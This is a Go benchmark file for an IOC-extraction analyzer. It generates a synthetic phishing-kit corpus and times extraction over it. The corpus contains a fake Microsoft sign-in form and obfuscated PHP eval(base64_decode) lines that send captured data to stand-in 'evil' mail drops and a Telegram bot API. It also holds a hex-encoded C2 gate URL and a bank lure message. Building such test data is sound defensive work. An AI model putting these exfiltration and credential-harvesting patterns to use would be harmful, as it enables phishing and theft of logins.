package ioc

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"syscall"
	"testing"
	"time"

	"dewar/analyzers/decode"
)

const minifiedJS = `!function(e,t){"use strict";"object"==typeof module&&"object"==typeof module.exports?module.exports=e.document?t(e,!0):function(e){if(!e.document)throw new Error("jQuery requires a window with a document");return t(e)}:t(e)}("undefined"!=typeof window?window:this,function(C,e){var t=[],r=Object.getPrototypeOf,s=t.slice,g=t.flat?function(e){return t.flat.call(e)}:function(e){return t.concat.apply([],e)},u=t.push,i=t.indexOf,n={},o=n.toString,v=n.hasOwnProperty,a=v.toString,l=a.call(Object),y={},m=function(e){return"function"==typeof e&&"number"!=typeof e.nodeType&&"function"!=typeof e.item},x=function(e){return null!=e&&e===e.window},E=C.document,c={type:!0,src:!0,nonce:!0,noModule:!0};function b(e,t,n){var r,i,o=(n=n||E).createElement("script");if(o.text=e,t)for(r in c)(i=t[r]||t.getAttribute&&t.getAttribute(r))&&o.setAttribute(r,i);n.head.appendChild(o).parentNode.removeChild(o)}var f="3.6.0",S=function(e,t){return new S.fn.init(e,t)};S.fn=S.prototype={jquery:f,constructor:S,length:0,toArray:function(){return s.call(this)},get:function(e){return null==e?s.call(this):e<0?this[e+this.length]:this[e]},pushStack:function(e){var t=S.merge(this.constructor(),e);return t.prevObject=this,t},each:function(e){return S.each(this,e)},map:function(n){return this.pushStack(S.map(this,function(e,t){return n.call(e,t,e)}))},wrapMap.th=wrapMap.td,e.target.style.display="none",window.top.location.href=n.href;`

const cssBlock = `.btn-primary{color:#fff;background-color:#0d6efd;border-color:#0d6efd;padding:.375rem .75rem;font-size:1rem;line-height:1.5;border-radius:.25rem;transition:color .15s ease-in-out,background-color .15s ease-in-out}.nav.active>.item.link{margin:0.5em 1.5rem}@media (min-width:768px){.container{max-width:720px}}
`

const loginHTML = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title>
<link rel="stylesheet" href="assets/css/style.css"><script src="assets/js/jquery-3.6.0.min.js"></script></head>
<body><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12.5 3.51.98.32 2.03.5 3.11.5 3.5 0 6.58-1.8 8.37-4.52z"/></svg>
<form action="next.php" method="post"><input type="email" name="login" placeholder="someone@example.com"><input type="password" name="passwd">
<button type="submit">Next</button></form><p>Version 1.2.3.4 &copy; 2024 Microsoft</p>
`

// kitCorpus returns size bytes of a mixed phishing kit: minified JS, CSS,
// HTML with SVG and a PNG data URI, PHP mailers with base64, gzinflate and
// hex payloads and Telegram exfiltration, and prose.
func kitCorpus(size int) []byte {
	rng := rand.New(rand.NewPCG(1, 2))
	png := make([]byte, 6000)
	for i := range png {
		png[i] = byte(rng.IntN(256))
	}
	pngURI := `<img src="data:image/png;base64,` + base64.StdEncoding.EncodeToString(png) + `">` + "\n"
	var b bytes.Buffer
	for i := 0; b.Len() < size; i++ {
		m := fmt.Sprintf(`$to = "drop%d@evil-%d.example"; mail($to, "Login", $msg); `+
			`file_get_contents("https://api.telegram.org/bot%d:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1/sendMessage?chat_id=-100%d&text=".urlencode($msg));`,
			i, i, 100000000+i, 1000000000+i)
		fmt.Fprintf(&b, "<?php\n$ip = '203.0.113.%d'; // v1.2.%d\neval(base64_decode(\"%s\"));\n", i%250, i, b64(m))
		fmt.Fprintf(&b, "eval(gzinflate(base64_decode('%s')));\n$h = hex2bin('%s');\n?>\n",
			base64.StdEncoding.EncodeToString(deflate(m)), hexs(fmt.Sprintf("https://c2-%d.example.com/gate.php", i)))
		b.WriteString(minifiedJS)
		b.WriteString(cssBlock)
		b.WriteString(loginHTML)
		if i%4 == 0 {
			b.WriteString(pngURI)
		}
		fmt.Fprintf(&b, "Dear customer, your account #%d was locked. Visit https://secure-%d.example.net/verify?id=%d or mail support@bank-%d.example.com.\n", i, i, i, i)
		b.WriteString(minifiedJS)
	}
	return b.Bytes()[:size]
}

// cpuTime is the user+system CPU time of the process so far. Benchmarks
// report MB per CPU second besides MB/s, because on a loaded machine wall
// time measures the neighbours.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

func benchSink(b *testing.B, data []byte) {
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	var n, iters int
	start := cpuTime()
	defer func() {
		b.ReportMetric(float64(len(data)*iters)/1e6/(cpuTime()-start).Seconds(), "MB/cpu-s")
	}()
	for b.Loop() {
		iters++
		s := New(Options{})
		for p := data; len(p) > 0; {
			k := min(len(p), 32<<10)
			s.Write(p[:k])
			p = p[k:]
		}
		n = len(s.Result().Indicators)
	}
	b.ReportMetric(float64(n), "iocs")
}

// BenchmarkSink: a 10 MiB mixed kit file through the whole analysis.
func BenchmarkSink(b *testing.B) { benchSink(b, kitCorpus(10<<20)) }

// BenchmarkSinkBinary: 10 MiB of random bytes, the worst case for
// nothing to find.
func BenchmarkSinkBinary(b *testing.B) {
	rng := rand.New(rand.NewPCG(3, 4))
	data := make([]byte, 10<<20)
	for i := range data {
		data[i] = byte(rng.IntN(256))
	}
	benchSink(b, data)
}

// BenchmarkDecode: decode alone over the same 10 MiB, window by window.
func BenchmarkDecode(b *testing.B) {
	data := kitCorpus(10 << 20)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		for p := data; len(p) > 0; {
			k := min(len(p), DefaultWindow)
			decode.Decode(p[:k], decode.Options{})
			p = p[k:]
		}
	}
}

// BenchmarkSinkAdversarial: 1 MiB of one pattern each extractor reacts to.
func BenchmarkSinkAdversarial(b *testing.B) {
	for _, pat := range []string{"a.", "1.1.1.1 ", "@", "a@b.co ", ":", "1:2:", "chat_id=1 ", "//", "http://", "http://a.com/", "hxxp://x[.]y ", "x:/", `https:\/\/`, "12345678:", "\xff"} {
		in := bytes.Repeat([]byte(pat), (1<<20)/len(pat))
		b.Run(fmt.Sprintf("%q", pat), func(b *testing.B) { benchSink(b, in) })
	}
}
